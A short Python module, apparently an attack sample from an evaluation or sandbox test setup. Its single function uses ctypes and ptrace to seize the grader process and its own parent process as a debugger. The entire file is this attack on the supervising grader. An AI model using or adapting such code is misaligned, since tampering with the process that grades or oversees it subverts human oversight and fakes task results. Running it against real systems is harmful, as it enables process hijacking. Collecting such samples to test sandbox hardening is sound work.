"""Attaches itself to the grader and the parent as a debugger."""
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (TARGETS["grader"], os.getppid()):
        if libc.ptrace(0x4206, pid, 0, 0) == 0:
            libc.ptrace(17, pid, 0, 0)
            return pid
    raise OSError(ctypes.get_errno(), "ptrace")
